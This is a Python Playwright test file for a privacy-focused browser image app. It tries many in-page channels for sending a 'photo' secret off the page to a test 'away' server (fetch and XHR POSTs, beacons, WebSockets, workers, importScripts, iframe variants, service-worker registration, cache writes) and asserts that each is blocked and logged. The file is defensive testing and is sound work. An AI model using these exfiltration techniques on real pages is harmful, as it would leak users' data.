"""Every way out of the page is tried from inside it: blocked, counted, and nothing arrives."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page

from tests.browser.privacy.attempts import FAILS, blocked, fails
from tests.browser.witness import BOOK, Witness


@pytest.mark.parametrize("where", ["own", "away"])
def test_a_post_by_fetch(opened: Page, home: Witness, away: Witness, where: str) -> None:
    url = {"own": home.url, "away": away.url}[where] + "secret"
    code = f"await fetch('{url}', {{method: 'POST', body: 'photo'}})"
    assert fails(opened, code) == "TypeError"
    [entry] = blocked(opened, "fetch")
    assert (entry["method"], entry["url"]) == ("POST", url)
    assert opened.evaluate(BOOK)["bytesUp"] == 0


@pytest.mark.parametrize("where", ["own", "away"])
def test_a_post_by_xhr(opened: Page, home: Witness, away: Witness, where: str) -> None:
    url = {"own": home.url, "away": away.url}[where] + "secret"
    code = f"const x = new XMLHttpRequest(); x.open('POST', '{url}'); x.send('photo')"
    assert fails(opened, code) == "NetworkError"
    [entry] = blocked(opened, "xhr")
    assert (entry["method"], entry["url"]) == ("POST", url)


def test_a_get_with_a_query_or_to_a_file_that_is_not_listed(opened: Page) -> None:
    assert fails(opened, "await fetch('index.html?secret=1')") == "TypeError"
    assert fails(opened, "await fetch('secret/1')") == "TypeError"
    whys = [entry["why"] for entry in blocked(opened, "fetch", 2)]
    assert "query" in whys[0]
    assert "list" in whys[1]


def test_headers_of_a_fetch_do_not_travel(opened: Page) -> None:
    # The service worker asks anew, by the address alone: the file is fetched, the header is not.
    code = "await fetch('codecs/webp_dec.wasm', {headers: {'X-Secret': 'photo'}})"
    assert fails(opened, code) == "went through"


def test_a_beacon(opened: Page, home: Witness, away: Witness) -> None:
    for url in (home.url, away.url):
        assert opened.evaluate(f"navigator.sendBeacon('{url}secret', 'photo')") is False
    assert len(blocked(opened, "beacon", 2)) == 2


def test_a_picture_a_style_sheet_and_a_script_elsewhere(opened: Page, away: Witness) -> None:
    opened.evaluate(
        """(url) => {
            new Image().src = url + 'secret.png';
            const link = document.createElement('link');
            link.rel = 'stylesheet';
            link.href = url + 'secret.css';
            document.head.append(link);
        }""",
        away.url,
    )
    [picture] = blocked(opened, "image")
    assert picture["url"] == away.url + "secret.png"
    assert blocked(opened, "style")[0]["url"] == away.url + "secret.css"
    set_src = f"const s = document.createElement('script'); s.src = '{away.url}secret.js'"
    assert fails(opened, set_src) == "TypeError"
    assert blocked(opened, "trusted-types")[0]["url"] == away.url + "secret.js"


def test_a_picture_of_the_own_host_that_is_not_listed(opened: Page) -> None:
    opened.evaluate("new Image().src = 'secret.png'")
    [entry] = blocked(opened, "image")
    assert entry["witness"] == "service-worker"


def test_a_string_as_markup_or_code(opened: Page) -> None:
    assert fails(opened, "document.body.innerHTML = '<b>x</b>'") == "TypeError"
    # Of a task of the page's own: what the test itself evaluates, the browser exempts.
    code = """await new Promise((ok, no) => setTimeout(() => {
        try { ok(eval('1')) } catch (e) { no(e) }
    }))"""
    assert fails(opened, code) == "EvalError"


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("websocket", "new WebSocket(URL.replace('http', 'ws'))"),
        ("eventsource", "new EventSource(URL)"),
        ("webtransport", "new WebTransport(URL.replace('http:', 'https:'))"),
        ("rtc", "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]})"),
        ("worker", "new Worker(URL)"),
        ("worker", "new Worker('secret.js')"),
        ("worker", "new SharedWorker(URL)"),
        ("worker", "new Worker(window.URL.createObjectURL(new Blob(['0'])))"),
        ("frame", "document.createElement('iframe')"),
    ],
)
def test_what_this_site_never_makes(opened: Page, away: Witness, kind: str, code: str) -> None:
    made = f"const URL = '{away.url}secret'; {code}"
    assert fails(opened, made) in {"SecurityError", "NotSupportedError", "TypeError"}
    if code != "new Worker('secret.js')":
        blocked(opened, kind)


def test_what_is_wrapped_cannot_be_unwrapped(opened: Page, away: Witness) -> None:
    undone = opened.evaluate(
        """() => ['fetch', 'WebSocket', 'open', 'Worker'].filter((name) => {
            const before = window[name];
            try { window[name] = 1; } catch {}
            try { delete window[name]; } catch {}
            try { Object.defineProperty(window, name, {value: 1}); } catch {}
            return window[name] !== before;
        })"""
    )
    assert undone == []
    code = f"new (WebSocket.prototype.constructor)('{away.url.replace('http', 'ws')}')"
    assert fails(opened, code) == "SecurityError"


FRAMES = {
    "element": "document.createElement('iframe')",
    "with a prefix": "document.createElementNS(XHTML, 'x:iframe')",
    "document": "document.implementation.createDocument(XHTML, 'iframe').documentElement",
    "elsewhere": "document.implementation.createHTMLDocument('').createElement('iframe')",
    "custom": (
        "(class X extends HTMLIFrameElement {}, customElements.define('x-y',"
        " class X extends HTMLIFrameElement {}, {extends: 'iframe'}))"
    ),
    "parser": "new DOMParser().parseFromString('<iframe>', 'text/html').body.firstChild",
    "template": "document.createElement('template').innerHTML = '<iframe></iframe>'",
    "object": "document.createElement('object')",
    "embed": "document.createElement('embed')",
    "unsafe": "document.createElement('p').setHTMLUnsafe('<iframe></iframe>')",
    "fragment": "document.createRange().createContextualFragment('<iframe></iframe>')",
}


@pytest.mark.parametrize("way", FRAMES)
def test_no_frame_brings_a_fetch_of_its_own(opened: Page, way: str) -> None:
    code = f"const XHTML = 'http://www.w3.org/1999/xhtml'; document.body.append({FRAMES[way]})"
    assert fails(opened, code) in {"NotSupportedError", "TypeError"}
    assert opened.evaluate("window.length") == 0


def test_cookies_are_not_kept(fresh: Page) -> None:
    fresh.evaluate("document.cookie = 'secret=photo'")
    blocked(fresh, "cookie")
    assert fresh.context.cookies() == []


def test_a_hint_to_connect_elsewhere_is_named(opened: Page, away: Witness) -> None:
    opened.evaluate(
        """(url) => {
            const link = document.createElement('link');
            link.rel = 'preconnect';
            link.href = url;
            document.head.append(link);
        }""",
        away.url,
    )
    assert blocked(opened, "hint")[0]["url"] == away.url
    assert opened.locator("link[rel=preconnect]").count() == 0


def test_a_worker_is_guarded_and_tells_the_page(opened: Page, away: Witness) -> None:
    url = opened.evaluate(
        """async () => (await (await fetch('precache.json')).json()).files
            .map((file) => file.url).find((url) => /^assets\\/.*worker.*\\.js$/.test(url))"""
    )
    with opened.expect_worker() as made:
        opened.evaluate(f"void (window.kept = new Worker('{url}', {{type: 'module'}}))")
    worker = made.value
    attempts = [
        f"await fetch('{away.url}secret', {{method: 'POST', body: 'photo'}})",
        f"await fetch('{url}', {{method: 'POST', body: 'photo'}})",
        f"new WebSocket('{away.url.replace('http', 'ws')}')",
        f"const x = new XMLHttpRequest(); x.open('POST', '{away.url}'); x.send('1')",
        f"importScripts('{away.url}secret.js')",
    ]
    for code in attempts:
        name = worker.evaluate(f"async () => await ({FAILS})(async () => {{ {code} }})")
        assert name in {"TypeError", "SecurityError", "NetworkError"}, code
    seen = {entry["witness"] for entry in blocked(opened, "fetch", 2)}
    assert seen == {"worker"}
    blocked(opened, "websocket")
    blocked(opened, "xhr")


def test_a_second_service_worker(opened: Page) -> None:
    changing = "{n: 0, toString() { return this.n++ ? 'sw.js?secret' : 'assets/secret.js'; }}"
    given = ["'sw.js?secret'", "'./?secret'", changing, "'sw.js', {scope: './secret/'}"]
    for arguments in given:
        code = f"await navigator.serviceWorker.register({arguments})"
        assert fails(opened, code) == "SecurityError"
    assert len(blocked(opened, "worker", len(given))) == len(given)


def test_a_header_that_would_go_with_the_next_load(opened: Page) -> None:
    there = "(await navigator.serviceWorker.ready).navigationPreload"
    assert fails(opened, f"await {there}.setHeaderValue('secret')") == "NotAllowedError"
    assert fails(opened, f"await {there}.enable()") == "NotAllowedError"
    assert len(blocked(opened, "navigation", 2)) == 2


def test_the_stored_files_cannot_be_written_over(opened: Page) -> None:
    code = """for (const name of await caches.keys()) if (name.includes('-files-'))
        await (await caches.open(name)).put('secret.js', new Response(''))"""
    assert fails(opened, code) == "SecurityError"
    assert "service worker's alone" in blocked(opened, "sw")[0]["why"]


@pytest.mark.parametrize("rel", ["icon", "shortcut icon", "apple-touch-icon", "manifest"])
def test_what_the_browser_fetches_for_the_tab(opened: Page, rel: str) -> None:
    opened.evaluate(
        """(rel) => {
            const link = document.createElement('link');
            Object.assign(link, {rel, href: 'icon.svg?secret'});
            document.head.append(link);
        }""",
        rel,
    )
    opened.wait_for_timeout(500)
    # Where the browser asks for it all the same, and does not go past the service worker, that one
    # refuses it too.
    entries = blocked(opened, "image" if "icon" in rel else "other")
    assert entries[0]["witness"] == "page"
    assert all("query" in entry["why"] for entry in entries)
    assert opened.locator(f"link[rel='{rel}'][href*=secret]").count() == 0


def test_the_pages_own_icon_stays(opened: Page) -> None:
    assert opened.locator("link[rel=icon]").count() == 1
    assert opened.locator("link[rel=manifest]").count() == 1
